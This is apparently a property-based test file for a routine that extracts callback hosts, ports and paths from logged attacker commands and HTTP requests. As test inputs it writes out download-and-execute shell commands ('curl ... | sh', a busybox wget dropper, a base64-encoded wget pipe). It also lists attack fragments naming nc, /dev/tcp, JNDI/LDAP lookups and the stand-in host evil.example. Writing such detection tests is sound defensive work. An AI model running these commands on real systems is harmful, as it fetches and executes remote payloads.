import fc from "fast-check";
import { expect, it } from "vitest";
import { isRoutableIpv4 } from "../address/ipv4.ts";
import { findCallbacks } from "./find-callbacks.ts";

const octet = fc.integer({ min: 1, max: 254 });
const address = fc
  .tuple(octet, octet, octet, octet)
  .map((octets) => octets.join("."))
  .filter(isRoutableIpv4);
const label = fc.stringMatching(/^[a-z]([a-z0-9-]{0,8}[a-z0-9])?$/);
const name = fc.tuple(label, label).map(([first, second]) => `${first}.${second}.example`);
const host = fc.oneof(address, name);
const path = fc.stringMatching(/^\/[a-z0-9_/-]{0,12}$/);
const port = fc.integer({ min: 1, max: 65_535 });

const QUOTES = [(word: string) => word, (word: string) => `'${word}'`, (word: string) => `"${word}"`, splitWord];
function splitWord(word: string): string {
  const middle = Math.floor(word.length / 2);
  return `${word.slice(0, middle)}''\\${word.slice(middle)}`;
}
const COMMANDS = [
  (url: string) => `wget ${url}`,
  (url: string) => `cd /tmp; /bin/busybox wget -q -O .x ${url}; chmod 777 .x`,
  (url: string) => `curl -A Mozilla -H 'Accept: */*' -fsSL ${url} | sh`,
  (url: string) => `x=$(curl -s ${url})`,
  (url: string) => `nohup wget ${url} &`,
  (url: string) => `echo ${Buffer.from(`wget ${url}|sh`).toString("base64")} | base64 -d | sh`,
];

it("a command of a host, a port, a path and any quoting names exactly these", () => {
  const command = fc.constantFrom(...COMMANDS);
  fc.assert(
    fc.property(host, port, path, fc.constantFrom(...QUOTES), command, (host, port, path, quote, command) => {
      const found = findCallbacks({ commands: [command(quote(`http://${host}:${port}${path}`))] }, () => false);
      const expected = { host, port, scheme: "http", path };
      expect(found.map(({ text: _text, sha256: _sha256, ...target }) => target)).toEqual([expected]);
    }),
  );
});

const PIECES = [
  ..."wget |curl -o |tftp -g |nc |/dev/tcp/|http://|${|jndi:|ldap://|lower:|:-|}|$(|`|'|\"|\\|;|&|{|,|base64 -d|echo ".split(
    "|",
  ),
  ...[
    "|",
    "\n",
    "%",
    "%24%7b",
    "%27",
    "+",
    "45.0.0.1",
    "10.0.0.1",
    "evil.example",
    "/x",
    ":80",
    "[",
    "]",
    "é",
    "\ud800",
  ],
  ...["connect((", "fsockopen(", "IFS=", "$IFS", "<a>", "&lt;", "d2dldCBodHRwOi8vNDUuMC4wLjEveA=="],
];
const anything = fc.oneof(
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((parts) => parts.join("")),
);

it("whatever a text says, what is found are names and routable addresses, and the same again", () => {
  fc.assert(
    fc.property(anything, (text) => {
      const http = {
        path: text,
        query: text,
        user_agent: text,
        referer: text,
        header_lines: [text],
        body: `{"a":["${text}`,
      };
      const source = { commands: [text], urls: [text], credentials: [{ username: text }], http };
      const found = findCallbacks(source, (own) => own === "45.0.0.1");
      for (const callback of found) {
        expect(callback.host).toMatch(/^[a-z0-9._-]+$/);
        expect(callback.host).not.toBe("45.0.0.1");
        if (/^[\d.]+$/.test(callback.host)) expect(isRoutableIpv4(callback.host)).toBe(true);
        else expect(callback.host).toMatch(/\.[a-z0-9-]*[a-z][a-z0-9-]*$/);
        expect(callback.port).toBeLessThanOrEqual(65_535);
        expect(callback.path.isWellFormed()).toBe(true);
      }
      expect(findCallbacks(source, (own) => own === "45.0.0.1")).toEqual(found);
    }),
    { numRuns: 300 },
  );
});

const HOSTILE = [
  ...'${|${${:-|\'|"|`|$(|{|\\|wget |wget curl |\'"`wget |echo \'echo "|connect((("|requests.get(  |a://|${jndi:ldap://|<!--|%41|&#x41;|/dev/tcp/'.split(
    "|",
  ),
  ...["|", "a=1;", "base64 -d|", "$IFS", "for a in ", "((", '=>"', "wget 45.0.0.1 ", "sh -c '"],
];

it.each(HOSTILE)("4 KiB of %s are read in milliseconds", (piece) => {
  const text = piece.repeat(Math.ceil(4_096 / piece.length)).slice(0, 4_096);
  const commands = [text.slice(0, 1_024), `wget ${text.slice(0, 1_000)}`];
  const times = Array.from({ length: 5 }, () => {
    const before = process.cpuUsage();
    findCallbacks({ http: { body: text, query: text }, commands }, () => false);
    return process.cpuUsage(before).user / 1_000;
  });
  expect(Math.min(...times)).toBeLessThan(40);
});
